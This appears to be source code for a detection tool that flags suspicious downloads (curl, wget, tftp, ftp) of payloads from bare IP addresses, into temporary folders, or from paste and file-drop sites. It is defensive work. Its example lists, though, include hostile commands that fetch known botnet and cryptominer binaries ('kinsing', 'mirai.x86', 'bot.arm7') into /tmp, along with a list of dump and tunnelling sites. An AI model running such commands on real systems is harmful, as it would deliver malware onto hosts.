import type { Indicator } from "../../indicator.ts";
import type { Call, Verdict } from "../execution/calls.ts";
import { argumentText, calls, findCall, hasWord, operands } from "../execution/calls.ts";
import { inContainer, onHost, ran } from "../execution/examples.ts";
import { needles } from "../execution/needles.ts";
import { downloaders } from "../execution/programs.ts";
import { behind } from "../gates.ts";
import { base } from "./ingress.ts";

/** Bringing tools and payloads in by a download. */

const fetchers = new Set([...downloaders, "ftp", "lftp", "ncftpget"]);

const payloadName =
  /\.(?:sh|bash|elf|bin|py|pl|php|so|ko|jar|class|exe|out|x86(?:_64)?|i[3-6]86|arm\d?|aarch64|mips|mipsel|mpsl|ppc|sparc|spc|sh4|m68k|run)(?:$|[?#])/i;

const bareAddress =
  /^(?:(?:https?|ftp|tftp):\/\/)?(?:[^\s/@]{1,60}@)?(\d{1,3}(?:\.\d{1,3}){3}|\[[\da-f:]{3,40}\])(?::\d{1,5})?(?:\/|$)/i;

const innerAddress = /(?:^|\/\/|@)(?:127\.|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|169\.254\.|0\.0\.0\.0|\[::1\])/;

const tempTarget = /^(?:\/tmp|\/var\/tmp|\/dev\/shm|\/run\/shm|\/run\/user\/\d+)\//;

const dumps = [
  "pastebin.com/raw",
  "paste.ee/r",
  "raw.githubusercontent.com",
  "gist.githubusercontent.com",
  "transfer.sh/",
  "cdn.discordapp.com/attachments",
  "ix.io/",
  "termbin.com",
  "0x0.st/",
  "bashupload.com",
  "hastebin",
  "anonfiles",
  "file.io/",
  "temp.sh/",
  "oshi.at/",
  "controlc.com",
  "rentry.co",
  "ghostbin",
  "dpaste",
  "sprunge.us",
  "catbox.moe",
  "gofile.io",
  "ipfs.io",
  "ngrok.io",
  "ngrok-free.app",
  "trycloudflare.com",
  "serveo.net",
  "loca.lt",
];

const uploadOptions = new Set(["-T", "-F", "--form", "-d", "--json"]);

const dumpSite = needles(dumps);

const fetchCall = calls(fetchers, (call) => !isUpload(call));

export const downloadsPayload: Indicator = {
  ...base,
  id: "downloads-payload",
  behaviour: "fetches a program or script from a bare address or into a folder for temporary files",
  meaning:
    "Software comes from names one knows; what comes from a number into /tmp is mostly an attacker's next stage.",
  alsoTechniques: ["T1204.002"],
  severity: "high",
  certainty: "likely",
  match: calls(fetchers, (call) => (isUpload(call) ? false : payloadOf(call))),
  examples: {
    found: [
      ran("curl -O http://203.0.113.9/kinsing", inContainer),
      ran("wget http://203.0.113.9:8080/bins/mirai.x86 -O /tmp/.x"),
      ran("curl -fsSL http://files.example.net/agent.sh -o /tmp/agent.sh", onHost),
      ran("tftp -g -r bot.arm7 203.0.113.9"),
    ],
    ignored: [
      ran("curl -o /dev/null https://example.com/health"),
      ran("curl -s http://10.0.0.7:8080/metrics"),
      ran("curl -fsSL https://get.example.com/install.sh -o /tmp/install.sh"),
      ran("wget https://example.com/index.html"),
      ran("curl -T /tmp/x.tgz http://203.0.113.9/up"),
      ran("curl http://127.0.0.1/x.sh"),
    ],
  },
};

export const downloadsFile: Indicator = {
  ...base,
  id: "downloads-file",
  behaviour: "fetches something over the network by hand (curl, wget and the like)",
  meaning: "Tools and next stages come in this way, and so do ordinary files; the address tells which.",
  severity: "medium",
  certainty: "weak",
  match: behind({ programs: fetchers }, (facts) =>
    findCall(facts.process.command, fetchers, (call) => isDownload(call, facts.container.where === "container")),
  ),
  examples: {
    found: [
      ran("wget https://example.net/data.json", inContainer),
      ran("curl -sL https://example.net/x -o x", onHost),
      ran("curl https://example.net", inContainer),
      ran("aria2c https://example.net/x.iso"),
    ],
    ignored: [
      ran("curl -s http://localhost:8080/health", inContainer),
      ran("curl -o /dev/null https://example.com/health", inContainer),
      ran("curl --version", inContainer),
      ran("curl -I https://example.com", onHost),
      ran("curl -T x https://example.net/", inContainer),
    ],
  },
};

export const fetchesFromDumpSite: Indicator = {
  ...base,
  id: "fetches-from-dump-site",
  behaviour: "fetches from a site where anybody can leave files",
  meaning:
    "Attackers keep their scripts and settings there, because nobody blocks these sites and no name leads to them.",
  alsoTechniques: ["T1102", "T1102.001"],
  severity: "high",
  certainty: "weak",
  match: behind(dumpSite.gate, (facts) => (fetchCall(facts) === null ? null : dumpSite(facts))),
  examples: {
    found: [
      ran("curl -s https://pastebin.com/raw/AbC123", inContainer),
      ran("wget https://transfer.sh/x/a.sh"),
      ran("sh -c curl https://raw.githubusercontent.com/x/y/main/i.sh -o i.sh"),
    ],
    ignored: [
      ran("curl https://example.com/pastebin"),
      ran("git clone https://github.com/x/y"),
      ran("curl --upload-file a.txt https://transfer.sh/a.txt"),
    ],
  },
};

function payloadOf(call: Call): Verdict {
  const addresses = call.args.filter(({ value }) => isAddress(value, call));
  const foreign = addresses.find(({ value }) => !innerAddress.test(value));
  if (foreign === undefined || toNowhere(call)) return false;
  if (bareAddress.test(foreign.value) && hasPath(foreign.value, call)) return foreign;
  const target = call.args.find(({ value }) => tempTarget.test(value));
  if (target === undefined) return false;
  // Installers come over TLS from a name; what comes unencrypted, or goes into memory, is something else.
  const isOdd = foreign.value.startsWith("http://") || target.value.includes("/shm/");
  return isOdd && (payloadName.test(foreign.value) || payloadName.test(target.value));
}

/** A path beyond the host: `203.0.113.9/` alone is a question, `203.0.113.9/x` a file. */
function hasPath(value: string, call: Call): boolean {
  if (call.program === "tftp" || call.program === "ftpget" || call.program === "ftp") return true;
  const rest = value.replace(/^[a-z]{2,5}:\/\//i, "");
  return rest.includes("/") && !rest.endsWith("/");
}

function isAddress(value: string, call: Call): boolean {
  if (value.startsWith("-")) return false;
  return (
    /^[a-z]{2,5}:\/\//i.test(value) ||
    bareAddress.test(value) ||
    (call.program !== "curl" && /^[\w-]{1,60}(?:\.[\w-]{1,60}){1,6}\//.test(value))
  );
}

function isDownload(call: Call, inside: boolean): Verdict {
  if (isUpload(call) || toNowhere(call)) return false;
  const address = call.args.find(
    ({ value }) => isAddress(value, call) || /^[\w-]{1,60}(?:\.[\w-]{1,60}){1,6}(?:[:/]|$)/.test(value),
  );
  if (address === undefined)
    return inside && operands(call).length > 0 && call.program !== "http" && call.program !== "fetch";
  if (/(?:^|\/\/|@)(?:localhost|127\.|\[::1\]|0\.0\.0\.0)/.test(address.value)) return false;
  return !hasWord(call, "-I", "--head", "--spider");
}

function isUpload(call: Call): boolean {
  return call.args.some(
    ({ value }) =>
      uploadOptions.has(value) ||
      value.startsWith("--data") ||
      value.startsWith("--post-file") ||
      value.startsWith("--upload-file"),
  );
}

function toNowhere(call: Call): boolean {
  return (
    call.args.some(
      ({ value }, index) =>
        value === "/dev/null" && ["-o", "-O", "--output"].includes(call.args[index - 1]?.value ?? ""),
    ) || argumentText(call).includes("-o/dev/null")
  );
}
